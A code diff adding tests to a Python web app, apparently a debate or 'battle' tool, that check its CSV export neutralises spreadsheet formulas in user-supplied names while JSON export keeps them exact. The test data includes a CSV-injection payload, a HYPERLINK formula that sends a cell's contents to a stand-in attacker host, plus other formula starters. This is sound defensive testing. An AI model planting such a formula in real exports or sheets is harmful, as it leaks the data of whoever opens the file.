@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import asyncio
+import csv
+import io
 import json
 from pathlib import Path
 
@@ -11,6 +13,7 @@ import pytest
 from websockets.asyncio.client import connect
 from websockets.exceptions import InvalidStatus
 
+from battles.views import spreadsheet_safe
 from tests.clients import Client
 from tests.servers import Server
 
@@ -245,3 +248,35 @@ async def test_binary_frames_and_loose_types_are_refused_on_the_socket(server: S
     await host.run("next")  # the first turn, on the clock
     assert (await host.command("extend_timer", seconds=90))["type"] == "ack"
     await asyncio.gather(host.close(), phone.close())
+
+
+FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+2", "-2+3", "@SUM(1)"]
+
+
+async def test_formulas_in_names_are_quoted_in_the_csv_and_exact_in_the_json(server: Server) -> None:
+    """A battler named =HYPERLINK(...), or =2+2 added by a co-host, came out raw in
+    export.csv, where a spreadsheet runs it (OWASP, CSV injection)."""
+    battlers = [{"name": name, "vision": "A vision"} for name in FORMULAS[:3]]
+    created = server.create_battle(title="=1+1", battlers=battlers, topic="@topic")
+    cohost = await Client.connect(server.ws_url, "cohost", created["code"], created["cohost_token"])
+    await cohost.run("add_battler", name=FORMULAS[3], vision="=2+2")
+    await cohost.close()
+    auth = {"authorization": f"Bearer {created['host_token']}"}
+    base = f"{server.url}/api/battles/{created['code']}/export"
+    table = list(csv.DictReader(io.StringIO(httpx.get(f"{base}.csv", headers=auth).text)))
+    names = {row["name"] for row in table if row["section"] == "battler"}
+    assert names == {"'" + name for name in FORMULAS}, names
+    cells = [cell for row in table for cell in row.values()]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
+    assert {"'=1+1", "'@topic", "'=2+2"} <= set(cells)
+    # JSON is data, not a spreadsheet: exactly as typed.
+    exported = httpx.get(f"{base}.json", headers=auth).json()["battle"]
+    assert [b["name"] for b in exported["battlers"]] == FORMULAS
+    assert (exported["title"], exported["topic"], exported["battlers"][3]["vision"]) == ("=1+1", "@topic", "=2+2")
+
+
+@pytest.mark.parametrize("cell", ["\tx", "\rx", "=x", "+x", "-x", "@x"])
+def test_every_formula_start_is_quoted(cell: str) -> None:
+    """Tabs and returns cannot start a name (names are stripped), but may start other text."""
+    assert spreadsheet_safe(cell) == "'" + cell
+    assert spreadsheet_safe("x" + cell) == "x" + cell and spreadsheet_safe(-3) == -3
